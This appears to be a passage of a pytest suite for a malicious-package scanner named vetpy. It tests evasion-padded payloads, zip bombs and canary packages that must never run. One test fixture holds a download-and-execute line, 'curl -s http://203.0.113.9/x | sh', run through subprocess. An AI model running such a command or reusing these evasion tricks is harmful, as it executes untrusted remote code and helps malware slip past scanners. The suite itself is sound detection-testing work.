    yield "long_hex_escapes", b"x = '" + b"\\x41" * 500_000 + b"'\n" + PAYLOAD
    for codec, surrogate in LONE_SURROGATES.items():
        yield f"lone_surrogate_{codec}", _lone_surrogate(codec, surrogate)


SOURCES = dict(_sources())
#: Sources Python 3.11 would actually run (the others fail to decode, parse or compile): their payload
#: must still be seen, whatever the padding around it.
RUNNABLE = {
    "one_line_10mb",
    "one_line_10mb_random",
    "latin1_cookie",
    "utf8_bom",
    "cookie_on_line_3",
    "sum_2000_terms_parses",
    "defs_99_deep_parses",
    "strings_100k",
    "lines_500k",
    "long_hex_escapes",
}


#: Known detection gaps, kept as strict xfails so they fail (and get removed) once fixed. (Files over the
#: syntax-tree size cap, 2 MB, were one; they now make the scan incomplete, so they are never benign.)
GAPS: set[tuple[str, str]] = set()  # files over the cap are now an incomplete scan, never benign


@pytest.mark.parametrize(
    ("where", "name"),
    [
        pytest.param(where, name, marks=[pytest.mark.xfail(strict=True, reason="regex fallback gap")])
        if (where, name) in GAPS
        else (where, name)
        for where in ("setup.py", "pkg/__init__.py")
        for name in SOURCES
    ],
)
def test_hostile_python_sources(sandbox: Sandbox, name: str, where: str) -> None:
    data = sdist({where: SOURCES[name]})
    # many of these compress past the ratio limit: lift it, this test is about the source, not the archive
    result = scan(sandbox, "evil-1.0.tar.gz", data, limits=Limits(max_ratio=1e6), seconds=20, mib=384)
    assert result.verdict in (Verdict.BENIGN, Verdict.MALICIOUS), result.error
    assert result.name == "evil"
    if name in RUNNABLE:
        assert result.verdict is Verdict.MALICIOUS, result.reasons


def test_runnable_sources_really_run_and_the_others_do_not() -> None:
    """Guards RUNNABLE: compile each source as Python would (compile only, nothing is executed)."""
    for name, data in SOURCES.items():
        if b"b64decode" not in data:
            continue  # no payload to see
        try:
            compile(data, name, "exec", dont_inherit=True)
            runs = True
        except (SyntaxError, ValueError, RecursionError, MemoryError):
            runs = False
        assert runs == (name in RUNNABLE), name


@pytest.mark.parametrize("codec", LONE_SURROGATES)
def test_a_file_with_a_lone_surrogate_sinks_neither_its_payload_nor_its_package(
    sandbox: Sandbox, codec: str
) -> None:
    """The text of such a file holds "\\ud800", which the word automata cannot take as is: the package gets
    a verdict, that file's payload is seen, and a plain file beside it is analysed as it is alone."""
    odd = _lone_surrogate(codec, LONE_SURROGATES[codec])
    assert "\ud800" in odd.decode(codec)
    plain = b"import subprocess\nsubprocess.run('curl -s http://203.0.113.9/x | sh', shell=True)\n"
    result = scan(sandbox, "evil-1.0.tar.gz", sdist({"evil/odd.py": odd, "evil/plain.py": plain}))
    assert result.verdict is Verdict.MALICIOUS, result.error
    both = evidence_of(sandbox.inputs / "evil-1.0.tar.gz")
    assert ("evil-1.0/evil/odd.py", "code.decode_exec") in both
    alone = evidence_of(sandbox.write("alone.tar.gz", sdist({"evil/plain.py": plain})))
    # the file with the most behaviours carries that package-wide feature's evidence: not a per-file one
    features = {f for _, f in both | alone} - {"code.max_file_behaviours"}
    per_file = {("evil-1.0/evil/plain.py", f) for f in features}
    assert ("evil-1.0/evil/plain.py", "code.download_exec") in both & per_file
    assert both & per_file == alone & per_file


# -- through the command line: limits and canaries -------------------------------------------------------


def _vetpy(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The installed console script, in a subprocess, with no stdin and the index variables cleared."""
    exe = shutil.which("vetpy", path=str(Path(sys.executable).parent)) or shutil.which("vetpy")
    assert exe, "the vetpy console script is not installed"
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")}
    return subprocess.run(
        [exe, *args], capture_output=True, text=True, timeout=300, env=env, cwd=cwd, stdin=subprocess.DEVNULL
    )


def test_cli_limit_flags_reach_the_reader(sandbox: Sandbox, capsys: pytest.CaptureFixture[str]) -> None:
    payload = {"evil-1.0/setup.py": SETUP}
    bomb = sandbox.write("evil-1.0.zip", zip_bomb(64, {"evil-1.0/PKG-INFO": PKG_INFO}, payload))
    many = sandbox.write("many-1.0.tar.gz", tar_of_many(10, payload))
    before = sandbox.tree()

    def run(*flags: str) -> tuple[int, list[dict[str, Any]]]:
        code = main(["scan", "--format", "json", "--model", "rules", str(bomb), str(many), *flags])
        out = capsys.readouterr().out
        return code, json.loads(out)["results"] if out else []

    code, results = run("--max-ratio", "1e9", "--max-member-bytes", str(MiB))
    assert code == 1 and [r["verdict"] for r in results] == ["malicious", "malicious"]
    assert "skipped large member evil-1.0/data/zeros.bin (more than 1.0 MiB)" in results[0]["notes"]
    code, results = run("--max-ratio", "2", "--max-members", "3", "--max-archive-bytes", "100000")
    assert code == 3  # nothing flagged, and something could not be scanned completely
    assert results[0]["verdict"] == "error" and "(ratio: " in results[0]["error"]
    assert results[1]["verdict"] == "error" and "(members: more than 3)" in results[1]["error"]
    assert results[1]["reasons"][0]["feature"] == "archive.limit_hit"
    code, results = run("--max-bytes", "300")  # the old spelling still works
    assert [r["error"].split(": ")[1] for r in results] == ["archive", "archive"]
    assert main(["scan", "--max-ratio", "0", str(bomb)]) == 2
    assert "must be positive" in capsys.readouterr().err
    sandbox.check_clean(before)


def _canary_package(canaries: Path) -> dict[str, bytes]:
    """Every place that runs on install or import writes a canary file (see test_canary.py)."""
    files = {p: t.encode() for p, t in canary_files(canaries).items()}
    files["canary/entry.py"] = (
        f"def run():\n    open({str(canaries / 'entry_module')!r}, 'w').write('ran')\n".encode()
    )
    files["canary.egg-info/entry_points.txt"] = b"[console_scripts]\ncanary-run = canary.entry:run\n"
    return files


def _canary_inputs(sandbox: Sandbox, canaries: Path) -> list[Path]:
    """The canary package as an sdist, a wheel, a zip sdist named .txt, and an unpacked folder."""
    files = _canary_package(canaries)
    inputs = sandbox.inputs
    sdist_path = inputs / "canary-0.1.tar.gz"
    sdist_path.write_bytes(build_archive({f"canary-0.1/{p}": d for p, d in files.items()}))
    wheel = {p: d for p, d in files.items() if p.startswith("canary/") or p.endswith(".pth")}
    wheel["canary-0.1.dist-info/METADATA"] = files["PKG-INFO"]
    wheel["canary-0.1.dist-info/entry_points.txt"] = files["canary.egg-info/entry_points.txt"]
    wheel_path = inputs / "canary-0.1-py3-none-any.whl"
    wheel_path.write_bytes(build_archive(wheel, "zip"))
    lying = inputs / "canary-0.2.txt"
    lying.write_bytes(build_archive({f"canary-0.2/{p}": d for p, d in files.items()}, "zip"))
    folder = sandbox.root / "unpacked" / "canary-0.1"
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    return [sdist_path, wheel_path, lying, folder]


def test_batch_runs_no_package_code(sandbox: Sandbox) -> None:
    canaries = sandbox.root / "canaries"
    canaries.mkdir()
    targets = sandbox.root / "targets.txt"
    targets.write_text("".join(f"{path}\n" for path in _canary_inputs(sandbox, canaries)))
    out = sandbox.root / "out.jsonl"
    before = sandbox.tree()
    proc = _vetpy(
        "batch", str(targets), "--out", str(out), "--jobs", "2", "--model", "rules", cwd=sandbox.cwd
    )
    assert proc.returncode == 1, proc.stderr  # the canaries look like install-time file writes
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(lines) == 4 and all(line["verdict"] == "malicious" for line in lines), lines
    assert list(canaries.iterdir()) == [], "package code ran"
    before[out.name] = (out.lstat().st_size, out.lstat().st_mtime_ns)  # the results are the only write
    sandbox.check_clean(before)


def test_scan_subprocess_runs_no_package_code(sandbox: Sandbox) -> None:
    canaries = sandbox.root / "canaries"
    canaries.mkdir()
    inputs = _canary_inputs(sandbox, canaries)
    before = sandbox.tree()
    proc = _vetpy("scan", "--format", "json", "--model", "rules", *map(str, inputs), cwd=sandbox.cwd)
    assert proc.returncode == 1, proc.stderr
    results = json.loads(proc.stdout)["results"]
    assert [r["verdict"] for r in results] == ["malicious"] * 4, results
    assert list(canaries.iterdir()) == [], "package code ran"
    sandbox.check_clean(before)
